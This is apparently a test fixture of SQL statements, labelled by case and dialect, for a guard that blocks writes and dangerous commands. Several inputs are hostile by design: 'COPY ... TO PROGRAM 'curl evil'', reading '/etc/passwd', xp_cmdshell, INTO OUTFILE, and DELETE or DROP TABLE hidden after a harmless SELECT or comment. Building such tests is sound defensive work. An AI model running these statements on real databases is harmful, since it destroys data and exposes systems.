-- case: insert
INSERT INTO t (a) VALUES (1)
-- case: update
UPDATE t SET a = 1 WHERE id = 2
-- case: delete
DELETE FROM t WHERE id = 1
-- case: drop table
DROP TABLE users
-- case: truncate
-- dialects: postgres mysql mssql
TRUNCATE TABLE users
-- case: create table as select
CREATE TABLE copy AS SELECT * FROM users
-- case: create index
CREATE INDEX i ON t (a)
-- case: alter table
ALTER TABLE t ADD COLUMN c INT
-- case: create view
CREATE VIEW v AS SELECT id FROM t
-- case: grant
-- dialects: postgres mysql mssql
GRANT SELECT ON t TO bob
-- case: revoke
-- dialects: postgres mysql mssql
REVOKE SELECT ON t FROM bob
-- case: begin
BEGIN
-- case: commit
COMMIT
-- case: rollback
ROLLBACK
-- case: commit then drop
COMMIT; DROP TABLE users
-- case: select then drop
SELECT 1; DROP TABLE users
-- case: two selects
SELECT 1; SELECT 2
-- case: write hidden after a line comment
SELECT 1 -- harmless
; DELETE FROM users
-- case: write hidden after a block comment
/* report */ DELETE FROM users /* SELECT 1 */
-- case: set variable
-- dialects: postgres mysql
SET search_path = evil
-- case: reset
-- dialects: postgres
RESET ALL
-- case: pragma
-- dialects: sqlite
PRAGMA writable_schema = 1
-- case: attach database
-- dialects: sqlite
ATTACH DATABASE '/tmp/x.db' AS x
-- case: copy to program
-- dialects: postgres
COPY users TO PROGRAM 'curl evil'
-- case: copy from file
-- dialects: postgres
COPY users FROM '/etc/passwd'
-- case: call procedure
-- dialects: postgres mysql
CALL do_things()
-- case: exec procedure
-- dialects: mssql
EXEC xp_cmdshell 'dir'
-- case: execute procedure
-- dialects: mssql
EXECUTE sp_configure 'show advanced options', 1
-- case: do block
-- dialects: postgres
DO $$ BEGIN PERFORM 1; END $$
-- case: prepare
-- dialects: postgres
PREPARE q AS SELECT 1
-- case: execute prepared
-- dialects: postgres
EXECUTE q
-- case: lock table
-- dialects: postgres
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
-- case: mysql lock tables
-- dialects: mysql
LOCK TABLES users WRITE
-- case: vacuum
-- dialects: sqlite postgres
VACUUM
-- case: analyze
-- dialects: postgres
ANALYZE users
-- case: explain analyze runs the statement
-- dialects: postgres mysql
EXPLAIN ANALYZE SELECT 1 FROM t
-- case: explain with analyze option
-- dialects: postgres
EXPLAIN (ANALYZE) SELECT 1 FROM t
-- case: explain of a delete
-- dialects: sqlite postgres mysql
EXPLAIN DELETE FROM t
-- case: listen
-- dialects: postgres
LISTEN channel
-- case: notify
-- dialects: postgres
NOTIFY channel
-- case: select into a new table
-- dialects: postgres mssql
SELECT * INTO backup FROM users
-- case: for update
-- dialects: postgres mysql
SELECT id FROM t FOR UPDATE
-- case: for share
-- dialects: postgres mysql
SELECT id FROM t FOR SHARE
-- case: for update nowait in a subquery
-- dialects: postgres
SELECT * FROM (SELECT id FROM t FOR UPDATE NOWAIT) AS s
-- case: lock in share mode
-- dialects: mysql
SELECT id FROM t LOCK IN SHARE MODE
-- case: into outfile
-- dialects: mysql
SELECT id FROM t INTO OUTFILE '/tmp/out'
-- case: data-modifying cte delete
-- dialects: postgres
WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone
-- case: data-modifying cte insert
-- dialects: postgres
WITH x AS (INSERT INTO log (a) VALUES (1) RETURNING a) SELECT a FROM x
-- case: data-modifying cte update
-- dialects: postgres
WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM x
-- case: waitfor
-- dialects: mssql
WAITFOR DELAY '00:00:10'
-- case: show tables
-- dialects: mysql
SHOW TABLES
-- case: use database
-- dialects: mysql mssql
USE other
-- case: merge
-- dialects: postgres mssql
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
-- case: replace into
-- dialects: mysql sqlite
REPLACE INTO t (a) VALUES (1)
-- case: read-write mode accepts an insert but checks its tables
-- config: read_write block=audit
INSERT INTO audit (a) SELECT a FROM t
-- case: read-write mode accepts an update
-- config: read_write
UPDATE t SET a = (SELECT max(a) FROM u)
-- case: read-write mode still refuses two statements
-- config: read_write
DELETE FROM a; DELETE FROM b
